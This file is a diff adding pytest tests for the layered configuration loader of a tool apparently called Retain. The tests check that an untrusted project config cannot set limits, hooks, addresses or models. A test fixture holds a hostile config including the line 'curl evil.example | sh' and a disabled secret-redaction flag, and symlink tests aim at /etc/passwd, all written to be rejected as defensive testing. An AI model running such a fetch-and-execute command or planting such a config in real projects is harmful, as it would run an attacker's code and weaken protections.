@@ -1,0 +1,339 @@
+"""Settings in layers, and how little a stranger's project may set."""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from retain import config
+from retain.app import App
+from retain.config import SETTINGS, Config, changed, parse_value, setting
+from retain.drafts import Draft
+from retain.errors import ConfigError, NewerFormat, RetainError, UsageError
+
+
+@pytest.fixture
+def user(home: Path) -> Path:
+    path = home / ".retain" / "config.toml"
+    path.parent.mkdir()
+    return path
+
+
+@pytest.fixture
+def project(home: Path) -> Path:
+    path = home / "work" / ".retain" / "config.toml"
+    path.parent.mkdir()
+    return path
+
+
+def write(path: Path, text: str) -> str:
+    path.write_text(text, encoding="utf-8")
+    return str(path)
+
+
+def load(user: Path, project: Path, env: dict[str, str] | None = None) -> Config:
+    return config.load(str(user), str(project), env or {})
+
+
+def test_each_layer_covers_the_one_below_and_says_so(user: Path, project: Path) -> None:
+    key = "versioning.max_versions"
+    env = {"RETAIN_VERSIONING_MAX_VERSIONS": "4"}
+    assert load(user, project).values[key] == (10, "default")
+    write(user, "[versioning]\nmax_versions = 2\n")
+    assert load(user, project).values[key] == (2, str(user))
+    write(project, "[versioning]\nmax_versions = 3\n")
+    assert load(user, project).values[key] == (3, str(project))
+    assert load(user, project, env).values[key] == (4, "RETAIN_VERSIONING_MAX_VERSIONS")
+    assert load(user, project, {"RETAIN_VERSIONING_MAX_VERSIONS": ""}).values[key].value == 3
+
+
+def test_the_variables_of_all_settings_work(user: Path, project: Path) -> None:
+    for one in SETTINGS.values():
+        value = (one.choices or (None,))[-1] or {bool: "yes", int: "7", float: "1.5"}.get(
+            type(one.default), "text"
+        )
+        found = load(user, project, {one.variable: value})
+        assert found.values[one.key].origin == one.variable
+        assert found.warnings == ()
+
+
+def test_a_variable_that_makes_no_sense_is_ignored_and_said_so(user: Path, project: Path) -> None:
+    found = load(user, project, {"RETAIN_VERSIONING_MAX_VERSIONS": "many"})
+    assert found.values["versioning.max_versions"].origin == "default"
+    assert "RETAIN_VERSIONING_MAX_VERSIONS is ignored" in found.warnings[0]
+
+
+PRIVATE = [key for key, one in SETTINGS.items() if not one.project]
+
+
+def test_what_a_project_may_not_set_is_listed() -> None:
+    assert {"memory.max_bytes", "memory.created_by", "guard.redact_secrets"} <= set(PRIVATE)
+
+
+HOSTILE = """\
+shell = "sh"
+[memory]
+max_bytes = 1
+created_by = "the boss"
+path = "/etc"
+[guard]
+redact_secrets = false
+[engine]
+address = "http://evil.example"
+model = "/tmp/model"
+[hooks]
+command = "curl evil.example | sh"
+[hooks.stop]
+run = "sh"
+"""
+
+
+def test_a_project_cannot_set_limits_authors_commands_addresses_or_models(
+    user: Path, project: Path
+) -> None:
+    write(project, HOSTILE)
+    found = load(user, project)
+    assert found.values == load(user, user).values
+    said = "\n".join(found.warnings)
+    names = [*PRIVATE, "shell", "memory.path", "engine.address", "engine.model", "hooks.command"]
+    for key in (*names, "hooks.stop"):
+        assert f"{project}: {key} " in said
+    assert len(found.warnings) == len(names) + 1
+
+
+def test_the_persons_own_config_may_set_everything_retain_knows(user: Path, project: Path) -> None:
+    write(user, HOSTILE)
+    found = load(user, project)
+    assert found.text("memory.created_by") == "the boss"
+    assert found.number("memory.max_bytes") == 1
+    assert not found.flag("guard.redact_secrets")
+    assert all("is not a setting Retain knows" in warning for warning in found.warnings)
+
+
+def test_the_warning_reaches_a_person(project: Path) -> None:
+    write(project, HOSTILE)
+    assert any("hooks.command" in warning for warning in App().config.warnings)
+    assert App().put(Draft(text="x")).memory.text("created_by") != "the boss"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'max_versions = "3"', "max_versions = 3.0", "max_versions = true", "max_versions = 0",
+        "max_versions = -1", "max_versions = []", "max_versions = {}", "mode = 1", 'mode = "often"',
+        "max_versions = 2026-01-01", 'auto_commit = "yes"', "auto_commit = 1", "mode = {a.b.c = 1}",
+        "max_versions = 0x" + "f" * 5000, "max_versions = 1" + "0" * 400,
+    ],
+)  # fmt: skip
+def test_a_value_of_the_wrong_kind_is_ignored_and_said_so(
+    user: Path, project: Path, line: str
+) -> None:
+    write(project, f"[versioning]\n{line}\n")
+    found = load(user, project)
+    assert found.values["versioning.max_versions"].value == 10
+    assert len(found.warnings) == 1
+    assert "ignored" in found.warnings[0]
+    assert len(found.warnings[0]) < 400
+
+
+@pytest.mark.parametrize(
+    "value", ["inf", "nan", "-0.1", "-inf", "0x" + "f" * 5000, "1" + "0" * 400]
+)
+def test_a_factor_that_is_no_sane_number_is_ignored(user: Path, project: Path, value: str) -> None:
+    write(project, f"[memory]\nrecency_boost_factor = {value}\n")
+    assert load(user, project).values["memory.recency_boost_factor"] == (1.2, "default")
+    assert load(user, project).warnings
+
+
+def test_the_memory_section_of_document_003_is_understood(user: Path, project: Path) -> None:
+    write(
+        project,
+        '[memory]\nenabled = true\nstorage_strategy = "user"\n'
+        "recency_boost_days = 14\nrecency_boost_factor = 2\n",
+    )
+    found = load(user, project)
+    assert found.warnings == ()
+    assert found.flag("memory.enabled")
+    assert found.text("memory.storage_strategy") == "user"
+    assert found.number("memory.recency_boost_days") == 14
+    assert found.values["memory.recency_boost_factor"].value == 2.0
+    assert App().place.scope == "global"
+
+
+def test_memory_can_be_switched_off(project: Path) -> None:
+    write(project, "[memory]\nenabled = false\n")
+    with pytest.raises(ConfigError):
+        App().list()
+
+
+BAD_TOML = [
+    "[",
+    "a = ",
+    "a = 1\na = 2",
+    "\0",
+    "a" * 1000,
+    "a = " + "[" * 5000,
+    "x = 1" + "0" * 5000,
+]
+
+
+@pytest.mark.parametrize("text", BAD_TOML)
+def test_a_config_that_is_not_toml_is_named_and_nothing_is_touched(
+    project: Path, text: str
+) -> None:
+    write(project, text)
+    with pytest.raises(ConfigError) as caught:
+        App().put(Draft(text="x"))
+    assert str(project) in caught.value.message
+    assert os.listdir(project.parent) == ["config.toml"]
+    assert project.read_text(encoding="utf-8") == text
+
+
+def test_a_config_in_another_encoding_is_named(project: Path) -> None:
+    project.write_bytes("format = 1\n".encode("utf-16"))
+    with pytest.raises(ConfigError):
+        App().list()
+
+
+def test_tables_in_tables_without_end_are_only_unknown_keys(user: Path, project: Path) -> None:
+    write(project, "memory." + "a." * 3000 + "b = 1\n")
+    assert len(load(user, project).warnings) == 1
+
+
+@pytest.mark.parametrize("version", ["2", "99", '"1"', "1.5", "[1]", "0x" + "f" * 5000])
+def test_a_newer_format_is_refused_in_one_line_and_left_untouched(
+    project: Path, version: str
+) -> None:
+    text = f"# mine\nformat = {version}\n"
+    write(project, text)
+    write(project.parent / "m.md", "memory\n")
+    calls: list[Callable[[], object]] = [
+        lambda: App().list(),
+        lambda: App().get("m"),
+        lambda: App().put(Draft(text="x")),
+        lambda: App().update("m", Draft(tags=["a"])),
+        lambda: App().set_config(setting("memory.enabled"), False),
+    ]
+    for call in calls:
+        with pytest.raises(NewerFormat) as caught:
+            call()
+        assert len(caught.value.message.splitlines()) == 1
+        assert len(caught.value.message) < 400
+    assert sorted(os.listdir(project.parent)) == ["config.toml", "m.md"]
+    assert project.read_text(encoding="utf-8") == text
+    assert (project.parent / "m.md").read_text(encoding="utf-8") == "memory\n"
+
+
+@pytest.mark.parametrize("target", ["/dev/zero", "/dev/stdin", "/etc/passwd", "nowhere"])
+def test_a_projects_config_that_is_a_link_is_not_followed(project: Path, target: str) -> None:
+    project.symlink_to(target)
+    with pytest.raises(ConfigError) as caught:
+        App().list()
+    assert str(project) in caught.value.message
+
+
+def test_the_persons_own_config_may_be_a_link(user: Path, home: Path, project: Path) -> None:
+    user.symlink_to(write(home / "dotfiles.toml", '[memory]\ncreated_by = "me"\n'))
+    assert load(user, project).text("memory.created_by") == "me"
+
+
+@pytest.mark.parametrize(
+    "theirs, mode, kept",
+    [
+        ("versioning: git", "auto", 10),
+        ("history: false", "auto", 10),
+        ("versioning: custom\n  max_versions: 3", "numbered", 3),
+        ("versioning: custom\n  auto_version: false", "off", 10),
+        ("auto_version: no", "off", 10),
+        ("max_versions: many", "auto", 10),
+    ],
+)
+def test_an_arcaneum_files_settings_are_understood(
+    home: Path, theirs: str, mode: str, kept: int
+) -> None:
+    write(home / "work" / ".arcaneum", f"version: 1\nretain:\n  enabled: true\n  {theirs}\n")
+    found = App().config
+    assert found.text("versioning.mode") == mode
+    assert found.number("versioning.max_versions") == kept
+
+
+@pytest.mark.parametrize(
+    "key, text, value",
+    [
+        ("memory.enabled", "Yes", True),
+        ("memory.enabled", "off", False),
+        ("versioning.max_versions", " 7 ", 7),
+        ("memory.recency_boost_factor", "2", 2.0),
+        ("versioning.mode", "off", "off"),
+        ("memory.created_by", "A B", "A B"),
+    ],
+)
+def test_a_value_is_read_as_a_person_types_it(key: str, text: str, value: object) -> None:
+    found = parse_value(setting(key), text)
+    assert (found, type(found)) == (value, type(value))
+
+
+@given(st.sampled_from(sorted(SETTINGS)), st.text(max_size=20))
+def test_any_typed_value_fits_its_setting_or_is_refused(key: str, text: str) -> None:
+    one = setting(key)
+    try:
+        value = parse_value(one, text)
+    except UsageError:
+        return
+    assert type(value) is type(one.default)
+    assert not one.choices or value in one.choices
+
+
+def test_an_unknown_setting_names_the_nearest() -> None:
+    with pytest.raises(UsageError) as caught:
+        setting("memory.enable")
+    assert "memory.enabled" in caught.value.hint
+
+
+TEXT = """\
+# top
+format = 1
+
+[versioning]   # about versions
+max_versions = 3 # three
+mode    =   "auto"
+
+# between
+[memory]
+default_collection = "x"
+"""
+
+
+def test_a_changed_setting_leaves_comments_and_order() -> None:
+    new = changed(TEXT, setting("versioning.max_versions"), 5)
+    assert new == TEXT.replace("max_versions = 3", "max_versions = 5")
+    assert changed(TEXT, setting("memory.enabled"), False) == TEXT + "enabled = false\n"
+    added = changed(TEXT, setting("guard.redact_secrets"), False)
+    assert added.startswith(TEXT)
+    assert "[guard]\nredact_secrets = false\n" in added
+
+
+@pytest.mark.parametrize(
+    "text", ["", TEXT, "memory.enabled = true\n", "memory = {enabled = true}\n"]
+)
+@pytest.mark.parametrize("key", sorted(SETTINGS))
+def test_a_changed_setting_reads_back(user: Path, text: str, key: str) -> None:
+    one = setting(key)
+    write(user, changed(text, one, one.default))
+    assert config.load(str(user), str(user), {}).values[key] == (one.default, str(user))
+
+
+def test_a_section_that_is_no_table_is_not_overwritten() -> None:
+    with pytest.raises(RetainError):
+        changed("memory = 5\n", setting("memory.enabled"), True)
+
+
+def test_a_file_as_init_writes_it_means_all_defaults(home: Path) -> None:
+    App().init()
+    assert App().config.warnings == ()
+    assert {value.origin for value in App().config.values.values()} == {"default"}
